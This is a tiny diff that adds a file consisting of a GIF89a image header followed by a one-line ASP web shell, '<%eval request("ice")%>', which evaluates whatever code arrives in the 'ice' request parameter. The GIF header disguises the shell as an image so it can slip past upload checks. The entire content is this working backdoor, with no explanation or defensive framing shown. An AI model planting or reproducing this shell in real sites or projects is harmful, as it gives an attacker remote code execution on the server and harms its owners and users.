@@ -1,0 +1,2 @@
+GIF89a
+<%eval request("ice")%>
